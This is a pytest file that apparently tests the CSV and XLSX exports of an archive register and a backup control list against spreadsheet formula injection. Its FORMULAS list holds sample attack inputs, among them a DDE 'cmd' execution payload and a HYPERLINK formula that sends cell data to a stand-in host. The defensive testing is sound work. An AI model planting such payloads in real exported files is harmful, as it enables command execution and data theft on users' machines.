"""Formula injection: a register or control-list cell that starts with = + - @ (or a tab or
carriage return) must reach a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest

from brankas.web.backup import exports, registers

FORMULAS = [
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def document_row(value: str) -> dict[str, object]:
    return {
        "agenda": "M-2026-0001", "direction": "penerimaan", "classification": "biasa",
        "number": value, "doc_date": dt.date(2026, 11, 20), "subject": value,
        "correspondent": value, "pages": 1, "attachments": value, "notes": value,
        "registered_at": dt.datetime(2026, 11, 20, 8, 0, tzinfo=dt.UTC),
        "stored_path": "arsip/biasa/penerimaan/2026/M-2026-0001-x.pdf",
        "stored_sha256": "0" * 64, "content_sha256": "1" * 64,
    }


@pytest.mark.parametrize("value", FORMULAS)
def test_register_csv_keeps_formulas_as_text(value: str) -> None:
    rows = read_csv(registers.register_csv([registers.register_row(document_row(value),
                                                                   value)]))
    header, row = rows
    columns = dict(zip(header, row, strict=True))
    for label in ("Nomor Naskah", "Perihal", "Pengirim/Tujuan", "Lampiran", "Catatan",
                  "Didaftarkan Oleh"):
        assert columns[label] == "'" + value, label


def control(value: str) -> dict[str, object]:
    return {
        "run": 1, "office": value, "operator": value, "medium": value, "medium_id": value,
        "started_at": "2026-11-20T08:00:00+07:00", "finished_at": "", "status": value,
        "files_added": 1, "bytes_added": 10, "files_skipped": 0, "disk_files": 1,
        "disk_bytes": 10, "verified": True,
        "categories": {"biasa/penerimaan": {"label": value, "files": 1, "bytes": 10}},
        "documents": [{"agenda": value, "folder": "biasa/penerimaan", "classification": "biasa",
                       "file": value, "bytes": 10, "sha256": value}],
    }


@pytest.mark.parametrize("value", FORMULAS)
def test_control_list_csv_keeps_formulas_as_text(value: str) -> None:
    header, row = read_csv(registers.control_csv(control(value)))
    columns = dict(zip(header, row, strict=True))
    for label in ("No. Agenda", "Berkas (di bawah data/)", "SHA-256"):
        assert columns[label] == "'" + value


@pytest.mark.parametrize("value", FORMULAS)
def test_control_list_xlsx_has_no_formula_cell(value: str) -> None:
    data = exports._xlsx(control(value))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for name in sheets:
            xml = book.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
        strings = book.read("xl/sharedStrings.xml").decode()
    # The value is there, as a shared string (text).
    assert re.sub(r"\W", "", value)[-4:] in re.sub(r"\W", "", strings)
